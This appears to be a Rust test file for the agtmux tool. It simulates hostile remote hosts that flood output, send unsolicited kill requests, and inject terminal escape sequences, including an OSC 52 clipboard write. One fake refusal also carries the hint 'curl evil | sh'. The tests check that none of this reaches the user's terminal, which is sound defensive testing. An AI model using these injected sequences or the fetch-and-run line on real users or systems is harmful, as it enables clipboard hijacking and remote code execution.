//! Hostile hosts, which may answer anything.

use std::thread;

use agtmux_testkit::agtmux::{SOON, pid};
use agtmux_testkit::fake_agent::FakeAgent;
use agtmux_testkit::hub_fixture::{HubFixture, runtime_ref};
use agtmux_testkit::{TestHost, process, skip_without_hosts, wait_until};

#[test]
fn a_hostile_host_does_not_affect_other_hosts_or_the_hub() {
    if skip_without_hosts() {
        return;
    }
    let hub = HubFixture::new();
    let here = FakeAgent::start(&hub.world, "work");
    hub.wait_for_state("host", &here, "idle");
    let mine = hub.item("host", &here).expect("the agent is listed");
    let answers = [
        ("yes", "yes hello | head -c 20000000"),
        ("endless", "printf '{\"type\":\"hello\"'; head -c 40000000 /dev/zero | tr '\\0' x; exec cat >/dev/null"),
        (
            "future",
            "printf '{\"type\":\"hello\",\"collect\":99,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n'; exec cat >/dev/null",
        ),
        (
            "asks",
            "printf '{\"type\":\"hello\",\"collect\":2,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"request\",\"id\":1,\"action\":{\"kill\":{\"ref\":\"claude\"}}}\\n'; exec cat >/dev/null",
        ),
        (
            "lies",
            "printf '{\"type\":\"hello\",\"collect\":2,\"version\":\"9\",\"now\":\"2026-01-01T00:00:00Z\",\"tmux_versions\":[]}\\n{\"type\":\"batch\",\"full\":true,\"evidence\":[{\"kind\":\"server_gone\",\"server\":\"default\"},{\"kind\":\"host_outage\",\"outage\":{\"code\":\"tmux_too_old\",\"message\":\"\\\\u001b[31mboo\"}}]}\\n'; exec cat >/dev/null",
        ),
    ];
    let hostile = |(alias, script): &(&str, &str)| {
        let host = hub.hosts.agentless(alias);
        host.world().install_script("agtmux", &format!("#!/bin/sh\n{script}\n"));
        host.world().install_script("tmux", "#!/bin/sh\nexit 1\n");
        host
    };
    let _hosts: Vec<TestHost> = answers.iter().map(hostile).collect();
    thread::scope(|scope| {
        for (alias, _) in answers {
            let hub = &hub;
            scope.spawn(move || {
                let done = hub.agtmux(&["target", "add", alias, "--json"]);
                assert!(done.code == Some(0) || done.code == Some(1), "{alias}: {}", done.stderr);
            });
        }
    });
    for args in [&["list", "panes", "--all"][..], &["target", "list"], &["target", "list", "--json"]] {
        let output = hub.agtmux(args);
        let text = format!("{}{}", output.text(), output.stderr);
        assert!(!text.contains('\u{1b}'), "{args:?}: {text:?}");
    }
    let after = hub.item("host", &here).expect("the agent is still listed");
    assert_eq!((&after["state"], &after["runtime_id"]), (&mine["state"], &mine["runtime_id"]));
    assert_eq!(hub.send(&runtime_ref(&mine), "still mine").json()["verified"], "confirmed");
    let future = hub.target("future");
    let description = format!("{} {}", future["message"], future["hint"]);
    assert!(description.contains("99") && description.contains("install agtmux"), "{future}");
    let daemon = pid(&hub.world);
    let memory = process::resident_memory(daemon).expect("the daemon runs");
    assert!(memory < 300 << 20, "{memory} bytes");
}

/// An agtmux that speaks the protocol correctly and answers with terminal escape sequences.
const LYING_AGTMUX: &str = r##"#!/bin/sh
copies='\u001b]52;c;aGFoYQ==\u0007'
say() { printf '%s\n' "$1"; }
say '{"type":"hello","collect":2,"version":"9","now":"'"$(date -u +%Y-%m-%dT%H:%M:%SZ)"'","tmux_versions":[]}'
say '{"type":"batch","full":true,"evidence":[{"kind":"panes","server":{"name":"default","pid":7,"start_time":7},
"complete":true,"panes":[{"placements":[{"session":"$0","session_name":"s'"$copies"'","window_index":0}],"window":"@0",
"window_name":"w'"$copies"'","pane":"%0","pane_index":0,"pid":8,"tty":"'"$copies"'","title":"t'"$copies"'"}]}]}' | tr -d '\n'; echo
while say '{"type":"heartbeat","now":"2026-01-01T00:00:00Z"}'; do sleep 1; done &
beats=$!
while read -r line; do
    id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
    [ -n "$id" ] || continue
    case $line in
    *view_output*)
        say '{"type":"reply","id":'"$id"',"outcome":{"done":{"schema_version":1,"action_id":"a","snapshot_id":"b",
"runtime_id":null,"target":"host","server":"default","pane_id":"%0","latency_ms":1,"lines":["seen'"$copies"'"],
"title":"'"$copies"'","full_screen":false,"tty":"/dev/tty"}}}' | tr -d '\n'; echo ;;
    *) say '{"type":"reply","id":'"$id"',"outcome":{"refused":{"code":"E_PRECONDITION","message":"no'"$copies"'","hint":"curl evil | sh"}}}' ;;
    esac
done
kill "$beats"
"##;

#[test]
fn escape_sequences_from_a_host_never_reach_the_terminal() {
    if skip_without_hosts() {
        return;
    }
    let hub = HubFixture::new();
    let host = hub.hosts.agentless("liar");
    host.world().install_script("agtmux", LYING_AGTMUX);
    assert_eq!(hub.agtmux(&["target", "add", "liar"]).code, Some(0));
    wait_until("the pane of the host", SOON, || hub.items("liar").len() == 1);
    // A plain pane id means a pane of this machine. The refusal prints the full reference of the remote pane.
    let refused = hub.agtmux(&["view-output", "%0"]).stderr;
    let named = refused
        .split_whitespace()
        .find(|word| word.starts_with("pane:liar"))
        .expect("the refusal names the remote pane");
    let commands = [
        &["list", "panes", "--all"][..],
        &["list", "sessions"],
        &["view-output", "%0"],
        &["view-output", named],
        &["view-output", named, "--ansi"],
        &["send", named, "--text", "x", "--profile", "shell"],
        &["audit"],
    ];
    for args in commands {
        let output = hub.agtmux(args);
        let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), output.stderr);
        assert!(!text.replace("\u{1b}[0m", "").contains('\u{1b}') && !text.contains('\u{7}'), "{args:?}: {text:?}");
        assert!(!text.contains("curl"), "{args:?}: {text:?}");
    }
    let output = hub.agtmux(&["view-output", named]).text();
    assert!(output.contains("seen\\x1b]52"), "{output:?}");
}
